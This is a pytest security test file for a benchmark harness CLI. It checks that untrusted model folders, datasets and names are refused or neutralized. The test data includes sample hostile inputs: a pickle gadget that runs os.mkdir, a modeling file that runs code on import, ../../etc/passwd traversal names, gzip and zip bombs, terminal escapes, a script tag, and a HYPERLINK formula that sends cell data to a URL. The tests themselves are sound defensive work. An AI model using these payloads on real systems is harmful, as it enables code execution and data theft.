"""What somebody else wrote is data: it is refused or neutralized, and never run."""

import csv
import gzip
import json
import os
import pickle
import re
import shutil
import zipfile
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner, Result
from many_processes import EXAMPLE

from harness.cli import cli
from harness.data_access import DataAccess
from harness.datasets.archive import JsonArchive
from harness.datasets.files import read_table
from harness.errors import BenchError, printable
from harness.suite_schema import Evaluation

ESCAPE = "\x1b]0;owned\x07\x1b[31m"
MARKUP = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://example.org?"&A1)'


class Bomb:
    """Unpickled, it leaves a file."""

    def __init__(self, canary: Path):
        self.canary = canary

    def __reduce__(self) -> Any:
        return (os.mkdir, (str(self.canary),))


def bench(*arguments: str) -> Result:
    return CliRunner().invoke(cli, arguments)


def suite(folder: Path, model: Any) -> str:
    asked = [
        {"task": t, "dataset": "manifest", "split": "all", "options": {"draws": 2}}
        for t in ("retrieval", "grounding")
    ]
    path = folder / "suite.json"
    path.write_text(json.dumps({"suite": "s", "models": [model], "evaluations": asked}))
    return str(path)


def run(folder: Path, model: Any, data: Path = EXAMPLE) -> Result:
    out = ["--out", str(folder / "out"), "--device", "cpu"]
    return bench("run", suite(folder, model), "--data", f"manifest={data}", *out)


@pytest.fixture(scope="module")
def siglip(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder of a tiny dual encoder with its card."""
    from baselines.tiny import WRITERS, write_tiny_models

    name = next(name for name in WRITERS if "siglip" in name)
    [folder] = write_tiny_models(tmp_path_factory.mktemp("tiny"), [name])
    return folder


@pytest.mark.parametrize("file", ["pytorch_model.bin", "model.safetensors"])
def test_a_pickle_given_as_weights_is_refused_and_not_run(
    siglip: Path, tmp_path: Path, file: str
) -> None:
    folder, canary = tmp_path / "model", tmp_path / "canary"
    shutil.copytree(siglip, folder)
    for weights in folder.glob("*.safetensors"):
        weights.unlink()
    (folder / file).write_bytes(pickle.dumps(Bomb(canary)))
    result = run(tmp_path, {"name": "hostile", "use": str(folder)})
    assert result.exit_code == 1
    assert "failed: hostile" in result.output
    assert not canary.exists()


def test_a_pickle_in_a_lofi_directory_is_refused_and_not_run(tmp_path: Path) -> None:
    folder, canary = tmp_path / "model", tmp_path / "canary"
    folder.mkdir()
    (folder / "config.json").write_text(json.dumps({"model_type": "lofi"}))
    for name in ("model.safetensors", "pytorch_model.bin", "training_args.bin"):
        (folder / name).write_bytes(pickle.dumps(Bomb(canary)))
    assert run(tmp_path, {"name": "hostile", "use": str(folder)}).exit_code == 1
    assert not canary.exists()


def test_a_python_file_that_a_model_directory_names_is_not_imported(
    siglip: Path, tmp_path: Path
) -> None:
    folder, canary = tmp_path / "model", tmp_path / "canary"
    shutil.copytree(siglip, folder)
    config = json.loads((folder / "config.json").read_text())
    named = {"AutoModel": "modeling.Model", "AutoConfig": "modeling.Config"}
    config |= {"auto_map": named, "model_type": "hostile"}
    (folder / "config.json").write_text(json.dumps(config))
    (folder / "modeling.py").write_text(f"import os\nos.mkdir({str(canary)!r})\n")
    result = run(tmp_path, {"name": "hostile", "use": str(folder)})
    assert result.exit_code == 1
    assert not canary.exists()


def test_a_users_card_may_not_ask_for_remote_code(siglip: Path, tmp_path: Path) -> None:
    folder = tmp_path / "model"
    shutil.copytree(siglip, folder)
    card = folder / "card.yaml"
    content = yaml.safe_load(card.read_text())
    content["runtime"] = {**content.get("runtime", {}), "remote_code": True}
    content["source"] = {**content.get("source", {}), "revision": "0" * 40}
    card.write_text(yaml.safe_dump(content))
    result = run(tmp_path, {"name": "hostile", "use": str(folder)})
    assert result.exit_code != 0
    assert "only cards that come with the package may run code" in result.output


@pytest.mark.parametrize("name", ["../../etc/passwd", "/etc/passwd", "images/../../x", "C:\\x"])
def test_a_manifest_cannot_name_a_file_outside_its_folder(tmp_path: Path, name: str) -> None:
    (tmp_path / "manifest.csv").write_text(f"image_id,file,patient_id\na,{name},p\n")
    with pytest.raises(BenchError, match="leaves the data root"):
        DataAccess({"manifest": tmp_path}).load(
            Evaluation(task="grounding", dataset="manifest", split="all")
        )


def test_a_gzip_bomb_is_refused_long_before_it_has_unfolded(tmp_path: Path) -> None:
    path = tmp_path / "metadata.csv.gz"
    with gzip.open(path, "wb", compresslevel=9) as file:
        file.write(b"id,x\n")
        for _ in range(300):
            file.write(b"0" * 1_000_000)
    assert path.stat().st_size < 1_000_000
    with pytest.raises(BenchError, match="unfolds to more than 100 times"):
        read_table(path, ("id",))


def test_a_zip_bomb_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "qa.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("s1.qa.json", b" " * 60_000_000)
    with pytest.raises(BenchError, match="over 50,000,000 bytes"):
        JsonArchive(path).read("s1.qa.json")


def hostile_data(folder: Path) -> Path:
    """The example under ids and phrases that mean harm."""
    data = folder / "data"
    shutil.copytree(EXAMPLE, data)
    for file in ("manifest.csv", "retrieval_pairs.csv", "phrases.jsonl"):
        path = data / file
        if not path.exists():
            continue
        text = path.read_text(encoding="utf-8")
        names = dict.fromkeys(re.findall(r"cdc_41182-2020-203-Fig\d-HTML(?!\.jpg)", text))
        for number, name in enumerate(names):
            harm = [MARKUP, ESCAPE, "@SUM(1)", "-1+1"][number % 4] + name[-6:]
            quoted = json.dumps(harm)[1:-1] if file.endswith("jsonl") else harm
            text = re.sub(rf"{name}(?!\.jpg)", lambda _, q=quoted: q, text)
        path.write_text(text.replace("left lung", f"left {MARKUP} lung"), encoding="utf-8")
    return data


def test_markup_and_escapes_in_ids_and_phrases_reach_no_page_and_no_terminal(
    tmp_path: Path,
) -> None:
    result = run(tmp_path, "text-only", hostile_data(tmp_path))
    said = result.output + printable(str(result.exception or ""))
    assert "\x1b]0" not in said
    out = tmp_path / "out"
    assert bench("report", str(out), "--data", f"manifest={tmp_path / 'data'}").exit_code == 0
    pages = [*out.glob("*.html"), *out.glob("*.md"), *out.glob("*.csv"), *out.glob("*.tex")]
    assert len(pages) >= 5
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert "alert(1)</script>" not in text or page.suffix in (".csv", ".tex"), page
        assert "\x1b" not in text, page


def inert(path: Path) -> bool:
    """Whether a written file holds no markup, no escape, no formula and no command of LaTeX."""
    text = path.read_text(encoding="utf-8")
    if path.suffix == ".csv":
        cells = [cell for row in csv.reader(text.splitlines()) for cell in row]
        return not any(re.match(r"[=+@\t\r]|-[^\d]", cell) for cell in cells)
    bad = {".html": MARKUP, ".md": MARKUP, ".tex": r"\input{"}.get(path.suffix, "\x1b")
    return bad not in text and "\x1b" not in text


def test_every_export_of_hostile_names_ids_and_phrases_is_inert(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.syspath_prepend(str(Path(__file__).parent))
    names = [MARKUP, "=1+1", r"\input{x}", "[bold]x[/nope]"]
    models = [
        {"name": name, "use": "suite_models:boxer", "options": {"die_at": 10**6 + number}}
        for number, name in enumerate(names)  # options that differ, else they are one model
    ]
    content = json.loads(Path(suite(tmp_path, "oracle")).read_text())
    content["evaluations"] = [e for e in content["evaluations"] if e["task"] == "grounding"]
    (tmp_path / "suite.json").write_text(json.dumps(content | {"models": models}))
    data = ["--data", f"manifest={hostile_data(tmp_path)}"]
    out, others = tmp_path / "out", ["--out", str(tmp_path / "others")]
    commands = [
        ["run", str(tmp_path / "suite.json"), "--out", str(out), "--device", "cpu", *data],
        ["report", str(out), *data],
        ["status", str(out)],
        ["compare", f"{MARKUP},[bold]x[/nope]", "=1+1", "--runs", str(out), *others, *data],
        ["export", str(out), "--format", "hf", "--format", "coco", "--format", "parquet"],
    ]
    commands[-1] += [*others, *data]
    for arguments in commands:
        result = CliRunner().invoke(cli, arguments, color=True)
        assert result.exit_code == 0, (arguments[0], result.output, result.exception)
        assert "\x1b]0" not in result.output, arguments[0]
    files = [path for top in (out, tmp_path / "others") for path in top.glob("*.*")]
    written = {path.suffix for path in files}
    assert written >= {".html", ".md", ".csv", ".tex", ".yaml", ".json", ".parquet"}
    assert [path for path in files if path.suffix != ".parquet" and not inert(path)] == []
    cards = [yaml.safe_load(path.read_text()) for path in files if path.suffix == ".yaml"]
    assert {card["model-index"][0]["name"] for card in cards} == set(names)


def test_what_a_model_says_when_it_fails_is_text_in_every_output(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.syspath_prepend(str(Path(__file__).parent))
    options = {"message": f"{FORMULA}{ESCAPE}{MARKUP}|x"}
    model = {"name": "hostile", "use": "suite_models:speaks", "options": options}
    result = CliRunner().invoke(
        cli,
        ["run", suite(tmp_path, model), "--data", f"manifest={EXAMPLE}", "--out",
         str(tmp_path / "out"), "--device", "cpu"],
        color=True,
    )  # fmt: skip
    assert result.exit_code == 1
    assert "\x1b]0" not in result.output
    assert "\\x1b]0;owned" in result.output
    out = tmp_path / "out"
    assert MARKUP not in (out / "leaderboard.html").read_text()
    for page in out.glob("leaderboard.*"):
        assert "\x1b" not in page.read_text(), page


def test_a_cell_of_a_table_is_never_a_formula(tmp_path: Path) -> None:
    result = run(tmp_path, {"name": FORMULA, "use": "chance"})
    assert result.exit_code == 0, result.output
    with (tmp_path / "out" / "leaderboard.csv").open(encoding="utf-8") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [cell for cell in cells if cell.startswith(("=", "@"))]


def test_a_name_with_escapes_is_refused(tmp_path: Path) -> None:
    result = run(tmp_path, {"name": f"x{ESCAPE}", "use": "chance"})
    assert isinstance(result.exception, BenchError)
    assert "control characters" in str(result.exception)
    assert "\x1b" not in str(result.exception)


def test_a_name_cannot_leave_the_runs_folder(tmp_path: Path) -> None:
    inside = tmp_path / "inside"
    inside.mkdir()
    assert run(inside, {"name": "../../../x", "use": "chance"}).exit_code == 0
    assert [path.name for path in tmp_path.iterdir()] == ["inside"]
    assert sorted(path.name for path in inside.iterdir()) == ["out", "suite.json"]
